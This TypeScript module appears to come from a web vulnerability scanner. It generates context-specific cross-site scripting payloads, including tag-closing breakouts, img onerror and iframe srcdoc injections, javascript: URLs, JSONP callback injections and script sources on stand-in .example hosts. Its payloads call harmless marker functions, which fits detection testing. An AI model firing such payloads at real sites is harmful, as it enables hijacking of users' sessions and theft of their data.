import type { Flow } from '../../../evidence/facts/trial.ts';
import { contextsOf, isOpened, type PageContext } from '../reflection/contexts.ts';
import { lexicalAt } from '../reflection/lexical.ts';
import { outOfCode } from '../reflection/payloads.ts';

const CLOSES = `'"></title></textarea></style></script></template></select>-->`;

/** Values that call the function of a token where the flow ends, the most promising first; none if nothing there runs. */
export function payloadsAt(flow: Flow, token: string, page: string): readonly string[] {
  const { kind, text } = flow;
  const at = text.toLowerCase().indexOf(flow.token);
  const call = `x${token}()`;
  switch (kind) {
    case 'html':
      return inMarkup(flow, token);
    case 'code':
      return outOfCode(lexicalAt(text, at), call);
    case 'script address':
      return inScriptAddress(text.slice(0, at), token);
    case 'data address':
      return inDataAddress(text.slice(0, at), token, page);
    case 'stored':
      return [];
    case 'navigation':
      return text.startsWith(URL.parse(flow.token, page)?.href ?? text) ? [`javascript:${call}//`] : [];
    case 'attribute':
      return inAttribute(flow, token);
  }
}

/** The same value without the call. */
export function neutral(payload: string, token: string): string {
  return payload.replaceAll(`x${token}()`, `x${token}`).replaceAll(`${token}.example`, `${token}.invalid`);
}

function element(token: string): string {
  return `<img src onerror=x${token}()>`;
}

function inMarkup({ text, token: seen }: Flow, token: string): string[] {
  const contexts = contextsOf(text, seen) ?? [];
  const found = contexts.flatMap((context) => outOfMarkup(context, token));
  return [...new Set([...found, `${CLOSES}${element(token)}`])];
}

function outOfMarkup(context: PageContext, token: string): readonly string[] {
  const call = `x${token}()`;
  switch (context.kind) {
    case 'text':
      return [element(token), `<iframe srcdoc="${element(token)}">`];
    case 'comment':
      return [`-->${element(token)}`];
    case 'tag name':
    case 'attribute name':
      return [`a>${element(token)}`];
    case 'data script':
      return [`</script>${element(token)}`];
    case 'raw text':
      return [`</${context.tag}>${element(token)}`];
    case 'attribute':
      return [`${context.quote || 'a'}>${element(token)}`, `a${context.quote} onfocus=${call} x=${context.quote}`];
    case 'nested page':
      return [element(token), `&lt;img src onerror=${call}&gt;`];
    case 'address':
      return [`javascript:${call}//`, `${context.quote || 'a'}>${element(token)}`];
    case 'script address':
      return [`//${token}.example/`, `https://${token}.example/`];
    case 'event handler':
      return outOfCode(context.lexical, call);
    case 'script':
      return [...outOfCode(context.lexical, call).slice(0, 2), `</script>${element(token)}`];
  }
}

function inScriptAddress(before: string, token: string): readonly string[] {
  if (before === '') return [`//${token}.example/`, `https://${token}.example/`, `data:text/javascript,x${token}()`];
  if (/^(?:https?:)?\/\/[\w.-]{0,60}$/i.test(before)) return [`${token}.example/`, `.${token}.example/`];
  if (/^\/[\w.-]{0,60}$/.test(before)) return [`/${token}.example/`];
  // The name of the function that the response calls.
  return /[?&]\w{1,40}=[\w.]{0,40}$/.test(before) ? [`x${token}()//`, `&callback=x${token}()//`] : [];
}

/** A response with markup, where the value is the start of the address or of its path. */
function inDataAddress(before: string, token: string, page: string): readonly string[] {
  const own = URL.parse('/', page)?.href ?? '';
  const folder = URL.parse('.', page)?.href;
  if (before === own || before === folder)
    return [`//${token}.example/`, `https://${token}.example/`, `/${token}.example/`];
  return /^https?:\/\/[\w.-]{0,60}$/i.test(before) ? [`${token}.example/`, `.${token}.example/`] : [];
}

function inAttribute({ sink, text, token: seen }: Flow, token: string): readonly string[] {
  const [tag, name = ''] = sink.split(' ');
  const call = `x${token}()`;
  const at = text.toLowerCase().indexOf(seen);
  if (name.startsWith('on')) return outOfCode(lexicalAt(text, at), call);
  // Relative addresses of scripts that follow, and the script of an SVG.
  if (tag === 'base' && name === 'href' && text === seen) return [`//${token}.example/`, `https://${token}.example/`];
  if (tag === 'script' && /^(?:xlink:)?href$/.test(name)) return inScriptAddress(text.slice(0, at), token);
  if (!isOpened(tag, name)) return [];
  const code = /^\s{0,9}javascript:/i.exec(text)?.[0];
  if (code !== undefined) return outOfCode(lexicalAt(text.slice(code.length), at - code.length), call);
  return text.slice(0, at).trim() === '' ? [`javascript:${call}//`] : [];
}
